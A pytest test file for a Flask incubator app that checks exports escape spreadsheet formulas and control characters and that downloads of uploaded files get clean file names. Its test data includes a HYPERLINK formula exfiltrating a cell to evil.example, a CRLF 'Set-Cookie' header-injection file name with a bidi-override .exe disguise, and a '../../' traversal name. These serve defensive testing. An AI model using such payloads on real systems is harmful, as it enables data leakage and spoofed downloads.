"""Every file the app hands out is safe to open.

Exports (every route of the url_map with a ``fmt`` argument, or ending in ``export``): a record whose text is a
spreadsheet formula or holds control characters comes out as plain text in CSV and in XLSX alike, and the file
opens. Downloads of uploaded files (every route with a ``document_id`` or ``attachment_id``): a file name with a
NUL, a line break or a bidirectional override downloads under a clean name; a Japanese or Vietnamese name stays
whole in ``filename*``.
"""

from __future__ import annotations

import csv
import io
import os
import re
from datetime import date

import openpyxl
import pytest
from flask import current_app, url_for

from incubator import uploads
from incubator.exports import cell_text
from incubator.extensions import db
from tests import factories
from tests.conftest import ROLES

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# PostgreSQL keeps no NUL in text (the forms refuse it there first); every other control character it keeps.
CONTROL = "\x1b[31m\x07"


def poisoned(label: str) -> str:
    nul = "" if db.engine.dialect.name == "postgresql" else "\x00"
    return f"{FORMULA}{nul}{CONTROL}{label}"


def _export_rules():
    return sorted((rule for rule in current_app.url_map.iter_rules()
                   if "GET" in rule.methods and ("fmt" in rule.arguments or rule.rule.endswith("export"))),
                  key=lambda rule: rule.rule)


def _download_rules():
    return sorted((rule for rule in current_app.url_map.iter_rules()
                   if "GET" in rule.methods and rule.arguments & {"document_id", "attachment_id"}),
                  key=lambda rule: rule.rule)


@pytest.fixture()
def poisoned_records(users):
    """One record of every kind the exports list, each text field a formula with control characters."""
    from incubator.exchanges import services as exchanges
    from incubator.exchanges.models import ExchangeKind, Visibility
    from incubator.organizations.models import Organization
    from incubator.ventures.models import VentureMember

    city = factories.city("shenyang")
    city.names = {"en": poisoned("city"), "ja": poisoned("city")}
    organization = db.session.get(Organization, users["agent"].organization_id)
    organization.names = {"en": poisoned("organization"), "ja": poisoned("organization")}
    for category in factories.support_catalog().values():
        category.names = {"en": poisoned(category.code)}
    venture = factories.venture(name=poisoned("venture"), country="CN", is_listing_consented=True)
    db.session.add(VentureMember(venture_id=venture.id, role="founder", name_latin=poisoned("member"),
                                 email="member@example.org", started_on=date(2026, 4, 1)))
    space = factories.space()
    space.building = poisoned("building")[:60]
    factories.lease(venture, space)
    factories.researcher_case(factories.user("applicant", name_latin=poisoned("researcher")),
                              home_institution=poisoned("institution"))
    factories.support_request(users["applicant"], title=poisoned("request"))
    exchanges.create_exchange(users["staff"], {
        "kind": ExchangeKind.SEMINAR, "title": poisoned("exchange"), "description": poisoned("description"),
        "starts_on": date(2026, 10, 1), "ends_on": date(2026, 10, 2), "place": poisoned("place"),
        "kawasaki_participants": 5, "partner_participants": 20, "visibility": Visibility.SHARED,
        "city_ids": [city.id], "venture_ids": [venture.id], "kawasaki_organizations": [],
        "partner_organizations": []})
    db.session.commit()
    return {"city_id": city.id, "organization_id": organization.id}


def _url(rule, fmt: str, ids: dict) -> str:
    missing = rule.arguments - {"fmt"} - set(ids)
    assert not missing, f"{rule.rule}: give this test a value for {sorted(missing)}"
    values = {name: ids[name] for name in rule.arguments - {"fmt"}}
    if "fmt" in rule.arguments:
        values["fmt"] = fmt
    with current_app.test_request_context():
        return url_for(rule.endpoint, **values)


def _cells(response, fmt: str) -> list[str]:
    """Every cell of the file as text; the file must open (a broken XLSX raises here)."""
    body = response.get_data()
    if fmt == "csv" or response.mimetype == "text/csv":
        assert body.startswith(b"\xef\xbb\xbf")
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if cell.value is not None:
                    cells.append(str(cell.value))
    return cells


# Exports of figures only: no record's text is in them (still checked for everything else). The audit log holds
# actions, ids and kinds, never a record's text.
FIGURES_ONLY = {"reports.city_export", "admin.export_audit_log"}

UNSAFE_START = re.compile(r"^[ \u3000]*[=+\-@\t\r＝＋－＠]")
CONTROL_CHARACTER = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_export_writes_formulas_and_control_characters_as_plain_text(client, users, login, poisoned_records,
                                                                          fmt):
    rules = _export_rules()
    assert len(rules) >= 10  # the lists, the reports and the portal
    for rule in rules:
        url = _url(rule, fmt, poisoned_records)
        answered = {}
        for role in ROLES:
            login(users[role])
            response = client.get(url)
            assert response.status_code < 500, (url, role)
            if response.status_code == 200:
                answered[role] = response
        assert answered, f"{url}: no role may download it"
        for role, response in answered.items():
            assert "attachment" in response.headers["Content-Disposition"], url
            cells = _cells(response, fmt)
            unsafe = [cell for cell in cells if UNSAFE_START.match(cell) or CONTROL_CHARACTER.search(cell)]
            assert not unsafe, (url, role, unsafe[:3])
            if rule.endpoint not in FIGURES_ONLY:
                assert any(cell.startswith("'" + FORMULA) for cell in cells), (url, role, "no record in it")


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+81 44 000", "'+81 44 000"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("＝1+1", "'＝1+1"),
    ("a\x00b\x1bc\x7f", "a\ufffdb\ufffdc\ufffd"), ("Line one\nline two\tend", "Line one\nline two\tend"),
    ("川崎市 = Kawasaki", "川崎市 = Kawasaki"), ("", ""),
])
def test_one_rule_for_every_cell(text, written):
    assert cell_text(text) == written


# --- downloads of uploaded files ---------------------------------------------------------------------------------

def nasty() -> str:
    nul = "" if db.engine.dialect.name == "postgresql" else "\x00"
    return f"plan{nul}\r\nSet-Cookie: x=1\u202efdp.exe.pdf"


JAPANESE = "事業計画書（最終版）.pdf"


def _stored(folder: str) -> str:
    from tests.applications.conftest import PDF

    name = f"{os.urandom(16).hex()}.pdf"
    path = uploads.path(folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as handle:
        handle.write(PDF)
    return name


@pytest.fixture()
def documents(users):
    """A file with a nasty name and one with a Japanese name behind every download route, as rows stored
    before names were cleaned."""
    from incubator.applications.models import ApplicationDocument, DocumentKind
    from incubator.exchanges import services as exchanges
    from incubator.exchanges.models import ExchangeDocument, ExchangeKind, Visibility
    from incubator.support.models import SupportAttachment

    city = factories.city("shenyang")
    application = factories.application(users["applicant"])
    request = factories.support_request(users["applicant"])
    exchange = exchanges.create_exchange(users["staff"], {
        "kind": ExchangeKind.SEMINAR, "title": "Seminar", "description": "", "starts_on": date(2026, 10, 1),
        "ends_on": date(2026, 10, 1), "place": "THINK", "kawasaki_participants": 1, "partner_participants": 1,
        "visibility": Visibility.SHARED, "city_ids": [city.id], "venture_ids": [], "kawasaki_organizations": [],
        "partner_organizations": []})
    ids = {}
    for label, name in (("nasty", nasty()), ("japanese", JAPANESE)):
        common = dict(original_name=name, content_type="application/pdf", size_bytes=10,
                      uploaded_by_id=users["applicant"].id)
        rows = {
            "document_id@applications": ApplicationDocument(
                application_id=application.id, kind=DocumentKind.BUSINESS_PLAN, stored_name=_stored("applications"),
                **common),
            "document_id@exchanges": ExchangeDocument(exchange_id=exchange.id, stored_name=_stored("exchanges"),
                                                      **common),
            "attachment_id@support": SupportAttachment(request_id=request.id, stored_name=_stored("support"),
                                                       **common),
        }
        db.session.add_all(rows.values())
        db.session.flush()
        ids[label] = {key: row.id for key, row in rows.items()}
    db.session.commit()
    return {"ids": ids, "application_id": application.id, "request_id": request.id, "exchange_id": exchange.id}


@pytest.mark.parametrize("label, expected", [
    ("nasty", 'attachment; filename="planSet-Cookie_ x_1fdp.exe.pdf"; '
              "filename*=UTF-8''planSet-Cookie%3A%20x%3D1fdp.exe.pdf"),
    ("japanese", "attachment; filename=\"download.pdf\"; filename*=UTF-8''"
                 "%E4%BA%8B%E6%A5%AD%E8%A8%88%E7%94%BB%E6%9B%B8%EF%BC%88%E6%9C%80%E7%B5%82%E7%89%88%EF%BC%89.pdf"),
])
def test_every_download_sends_a_clean_file_name(client, users, login, documents, label, expected):
    rules = _download_rules()
    assert len(rules) >= 4
    for rule in rules:
        kind = "attachment_id@support" if "attachment_id" in rule.arguments else (
            "document_id@exchanges" if "exchange_id" in rule.arguments else "document_id@applications")
        values = {"application_id": documents["application_id"], "request_id": documents["request_id"],
                  "exchange_id": documents["exchange_id"], kind.split("@")[0]: documents["ids"][label][kind]}
        url = _url(rule, "", values)
        answered = []
        for role in ROLES:
            login(users[role])
            response = client.get(url)
            assert response.status_code < 500, (url, role)
            if response.status_code == 200:
                answered.append(role)
                assert response.headers["Content-Disposition"] == expected, (url, role)
                assert response.get_data().startswith(b"%PDF")
            response.close()
        assert answered, f"{url}: nobody may download it"


def test_an_uploaded_file_keeps_a_clean_name_in_its_own_script(client, users, login):
    from incubator.support.models import SupportAttachment
    from tests.applications.conftest import PDF

    category = factories.support_catalog()["company_registration"]
    db.session.commit()
    login(users["applicant"])
    response = client.post("/support/new", data={
        "category_id": str(category.id), "title": "Bank account", "description": "Please help.",
        "written_locale": "ja", "reply_locale": "ja", "consent_sharing": "y",
        "files": [(io.BytesIO(PDF), "../../事業計画\x00書\u202e.pdf"), (io.BytesIO(PDF), "Kế hoạch.pdf")]},
        content_type="multipart/form-data")
    assert response.status_code == 302
    names = sorted(db.session.scalars(db.select(SupportAttachment.original_name)))
    assert names == sorted(["事業計画書.pdf", "Kế hoạch.pdf"])
